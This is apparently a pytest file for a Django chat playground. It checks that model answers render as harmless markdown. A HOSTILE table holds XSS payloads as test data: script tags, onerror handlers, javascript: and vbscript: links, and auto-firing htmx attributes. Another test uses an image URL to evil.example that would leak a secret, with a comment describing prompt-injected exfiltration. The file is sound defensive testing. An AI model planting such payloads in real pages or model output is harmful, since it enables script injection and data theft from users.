"""Model output is untrusted. Whatever an answer contains, the finished pane shows text and
harmless formatting: no script, no event handlers, no javascript: links, no htmx
attributes, no style, no frames; and the pane's history carries hx-disable."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.urls import reverse
from markdown_it import MarkdownIt

from playground import rendering
from playground.models import Status
from playground.rendering import render_markdown
from tests.playground.helpers import make_turn, responses_of


class Elements(HTMLParser):
    """The elements of an HTML fragment: (tag, attributes, ancestors' attributes)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None], list[dict[str, str | None]]]] = []
        self.stack: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.found.append((tag, attributes, [a for _t, a in self.stack]))
        if tag not in {"br", "hr", "img", "input", "meta", "link"}:
            self.stack.append((tag, attributes))

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self.stack) - 1, -1, -1):
            if self.stack[index][0] == tag:
                del self.stack[index:]
                break

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_harmless(html: str) -> None:
    for tag, attributes, _ancestors in Elements(html).found:
        assert tag in rendering._TAGS, (tag, html)
        assert tag not in {"script", "style", "iframe", "object", "embed", "form", "svg"}
        for name, value in attributes.items():
            assert not name.startswith("on"), (name, html)
            assert not name.startswith(("hx-", "data-hx-")), (name, html)
            assert name != "style", (name, html)  # the CSP would refuse it anyway
            if name in {"href", "src"}:
                scheme = (value or "").strip().lower().split(":", 1)[0]
                assert scheme not in {"javascript", "vbscript", "data", "file"}, (value, html)
            if name == "class" and tag in {"th", "td"}:
                assert value in {"align-left", "align-center", "align-right"}, (value, html)
            elif name == "class":
                assert all(c.startswith(("tok-", "language-")) for c in (value or "").split())


HOSTILE = {
    "script tag": "Hi <script>alert(1)</script> there",
    "script in caps": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "event handler": '<img src="x" onerror="alert(1)"> and <b onclick="alert(2)">b</b>',
    "svg onload": "<svg onload=alert(1)>",
    "javascript link": "[click me](javascript:alert(1))",
    "javascript link, mixed case": "[click](JaVaScRiPt:alert(1))",
    "javascript link, raw": '<a href="javascript:alert(1)">x</a>',
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data url image": "![i](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "hx attribute in raw html": '<div hx-get="/x" hx-trigger="load">hi</div>',
    "hx attribute in a markdown link title": '[a](https://e.example "x\\" hx-get=\\"/y")',
    "hx on a raw link": '<a href="/s/1/stop/" hx-post="/s/1/stop/" hx-trigger="load">x</a>',
    "style tag": "<style>body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0">covered</p>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="/send/" method="post"><input name="prompt"></form>',
    "comment": "<!-- <script>alert(1)</script> -->",
    "class injection": '<span class="tok-k pane-hidden">k</span>',
    "class injection in a table cell": '<table><tr><td class="align-left pane">x</td></tr></table>',
    "style in a table cell": '<table><tr><td style="text-align:left;inset:0">x</td></tr></table>',
}


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_markdown_renders_harmless(text: str) -> None:
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_the_sanitizer_alone_holds_if_raw_html_were_enabled(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Defence in depth: markdown-it escapes raw HTML today; nh3 must hold without that."""
    monkeypatch.setattr(
        rendering,
        "_MD",
        MarkdownIt("commonmark", {"html": True, "highlight": rendering._highlight}).enable(
            ["table", "strikethrough"]
        ),
    )
    assert_harmless(render_markdown(text))


def test_raw_html_is_shown_as_text() -> None:
    html = render_markdown('<div hx-get="/x">hi</div> <script>alert(1)</script>')

    assert html == (
        '<p>&lt;div hx-get="/x"&gt;hi&lt;/div&gt; &lt;script&gt;alert(1)&lt;/script&gt;</p>\n'
    )
    assert [tag for tag, _a, _s in Elements(html).found] == ["p"]


def test_safe_links_stay_and_open_safely() -> None:
    html = render_markdown("[docs](https://docs.example/x?a=1&b=2) and [me](mailto:a@b.example)")

    links = [a for tag, a, _s in Elements(html).found if tag == "a"]
    assert links == [
        {"href": "https://docs.example/x?a=1&b=2", "rel": "noopener noreferrer nofollow"},
        {"href": "mailto:a@b.example", "rel": "noopener noreferrer nofollow"},
    ]


def test_formatting_survives() -> None:
    html = render_markdown(
        "# Title\n\n**bold** *it* ~~gone~~ `code`\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |"
    )

    tags = [tag for tag, _a, _s in Elements(html).found]
    for tag in ("h1", "strong", "em", "s", "code", "table", "th", "td"):
        assert tag in tags, tag
    assert '<th class="align-center">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "style=" not in html  # an inline style: the Content-Security-Policy refuses it


def test_code_blocks_are_highlighted_with_class_names_only() -> None:
    html = render_markdown("```python\ndef f():\n    return '<b>'\n```")

    assert html.startswith('<pre><code class="language-python"><span class="tok-k">def</span>')
    assert '<span class="tok-nf">f</span>' in html
    assert "&lt;b&gt;" in html  # code is text
    assert "<b>" not in html
    assert "style=" not in html
    assert_harmless(html)


def test_code_in_an_unknown_language_is_escaped_not_highlighted() -> None:
    html = render_markdown("```nosuchlang\n<script>x</script>\n```")

    assert html == (
        '<pre><code class="language-nosuchlang">&lt;script&gt;x&lt;/script&gt;\n</code></pre>\n'
    )


@pytest.mark.django_db
def test_the_finished_answer_sits_inside_hx_disable(owner: Any, owner_client: Any) -> None:
    turn = make_turn(owner, [("echo", {})], "Be evil", status=Status.DONE)
    response = responses_of(turn)[0]
    response.text = 'Done. <div hx-get="/logout/" hx-trigger="load">x</div> **ok**'
    response.save()

    page = owner_client.get(reverse("session", args=[turn.session_id])).content.decode()

    elements = Elements(page).found
    answers = [
        (attrs, ancestors)
        for tag, attrs, ancestors in elements
        if tag == "div" and attrs.get("class") == "text markdown"
    ]
    assert len(answers) == 1
    attrs, ancestors = answers[0]
    assert any("hx-disable" in a for a in ancestors)
    assert {"id": f"response-{response.pk}", "data-response": str(response.pk)}.items() <= next(
        a for a in ancestors if a.get("id") == f"response-{response.pk}"
    ).items()
    start = page.index('<div class="text markdown">')
    shown = page[start : page.index("</div>", start)]
    assert "<strong>ok</strong>" in shown
    assert "&lt;div hx-get=" in shown  # shown as text, not as an element
    assert_harmless(shown.removeprefix('<div class="text markdown">'))


def test_an_image_in_an_answer_is_a_link_the_browser_does_not_fetch() -> None:
    # A prompt-injected model could put the conversation into an image URL; loading it
    # would send it away without anyone clicking.
    html = render_markdown('Look: ![a "cat"](https://evil.example/c.png?q=secret)')
    found = Elements(html).found
    assert [tag for tag, _a, _p in found] == ["p", "a"]
    assert found[1][1]["href"] == "https://evil.example/c.png?q=secret"
    assert "[image: a &quot;cat&quot;]" in html or '[image: a "cat"]' in html
    assert "<img" not in html


@pytest.mark.django_db
def test_the_model_picker_lists_the_catalog_with_the_panes_model_selected(
    owner_client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from playground.catalog import forget_catalog
    from playground.models import CatalogEntry

    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    CatalogEntry.objects.create(
        key="custom:x", display_name="Mine <b>&amp; yours</b>", provider="openai_compatible",
        model_id="x", base_url="http://127.0.0.1:9/v1",
    )  # fmt: skip
    forget_catalog()

    page = owner_client.get(reverse("home")).content.decode()

    first_picker = page[page.index('aria-label="Model"') : page.index("</select>")]
    options = re.findall(
        r"<option value=\"([^\"]+)\"( selected)?( disabled)?>([^<]*)</option>", first_picker
    )
    by_key = {key: (bool(sel), bool(dis), label) for key, sel, dis, label in options}
    assert len(by_key) == CatalogEntry.objects.filter(enabled=True).count()
    assert [key for key, (sel, _, _) in by_key.items() if sel] == ["local:smollm2"]
    assert by_key["echo"] == (False, False, "Echo")
    assert by_key["openai:gpt-5"] == (False, True, "OpenAI · GPT-5 (needs OPENAI_API_KEY)")
    # A display name is text, never markup.
    assert by_key["custom:x"][2] == "Mine &lt;b&gt;&amp;amp; yours&lt;/b&gt;"
